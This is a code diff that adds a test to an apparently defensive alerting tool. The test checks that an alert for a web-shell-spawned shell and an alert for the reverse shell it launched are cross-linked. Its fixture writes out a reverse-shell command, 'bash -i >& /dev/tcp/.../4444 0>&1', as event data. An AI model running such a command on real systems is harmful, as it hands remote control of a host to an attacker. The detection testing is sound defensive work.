@@ -177,6 +177,56 @@ describe('alert triage with revisions (ETag and If-Match)', () => {
   });
 });
 
+describe('alerts about one process tree are linked', () => {
+  it('a web shell\'s shell and the reverse shell it started are each other\'s related alerts in GET /api/v1/alerts/ID and hades alerts show', async () => {
+    const hostname = `tree-${tag}`;
+    const agent = await enrollAs(hostname);
+    const php = { pid: 812, entity_id: `${tag}-812-100`, name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2' };
+    const sh = { pid: 4100, entity_id: `${tag}-4100-200`, name: 'sh', executable: '/usr/bin/dash' };
+    const ip = '198.51.100.23';
+    const steps: [typeof sh, typeof php[], string[]][] = [
+      [sh, [php], ['sh', '-c', 'id; uname -a']],
+      [{ pid: 4101, entity_id: `${tag}-4101-300`, name: 'bash', executable: '/usr/bin/bash' }, [sh, php], ['bash', '-c', `bash -i >& /dev/tcp/${ip}/4444 0>&1`]],
+    ];
+    const events = makeEvents(steps.length, {
+      action: 'exec',
+      prefix: `tree-${tag}`,
+      host: hostname,
+      extra: (event, i) => {
+        const [process, lineage, args] = steps[i]!;
+        event['process'] = { ...event['process'], ...process, args, args_count: args.length, command_line: args.join(' '), parent: lineage[0] };
+        event['hades'] = { ...event['hades'], ancestors: lineage, ancestry: [process, ...lineage].map((p) => `${p.name}(${p.pid})`).join(' < ') };
+      },
+    });
+    const stream = new GatewayStream(server.addresses.gateway, agent.credentials);
+    try {
+      stream.hello(hostname);
+      await stream.welcome();
+      const ack = await stream.batch(ndjson(events), ++batches, 1);
+      assert.equal(ack.ack?.stored, 2, JSON.stringify(ack));
+    } finally {
+      stream.close();
+    }
+    const [webshell, reverse] = await waitUntil('both alerts', async () => {
+      const alerts = await alertsOf(agent.agentId);
+      const web = alerts.find((a) => a['rule'].id === 'server_process_spawned_shell');
+      const rev = alerts.find((a) => a['rule'].id !== 'server_process_spawned_shell' && JSON.stringify(a['events']).includes(`/dev/tcp/${ip}/`));
+      return web && rev ? [web, rev] : undefined;
+    });
+    const read = (await server.ok('GET', `/api/v1/alerts/${webshell['id']}`)) as { related: AnyEvent[] };
+    assert.deepEqual(
+      read.related.filter((r) => r['id'] === reverse['id']).map((r) => [r['relation'], r['process']]),
+      [['downstream', { entity_id: sh.entity_id, pid: sh.pid, name: 'sh' }]],
+      JSON.stringify(read.related),
+    );
+    const back = (await server.ok('GET', `/api/v1/alerts/${reverse['id']}`)) as { related: AnyEvent[] };
+    assert.ok(back.related.some((r) => r['id'] === webshell['id'] && r['relation'] === 'upstream'), JSON.stringify(back.related));
+    const shown = await runHades(['alerts', 'show', reverse['id'], '--config', configFile]);
+    assert.equal(shown.status, 0, shown.stderr);
+    assert.match(shown.stdout, new RegExp(`^ {2}related: +${webshell['id']} \\S+ high server_process_spawned_shell \\[new\\] its process started this one's: sh\\(4100\\): `, 'm'));
+  });
+});
+
 describe('a triage and its audit record are one write', () => {
   it('when the audit log refuses the record, the triage is undone; once it takes records again, both are written', async () => {
     const hostname = `triage-audit-${tag}`;
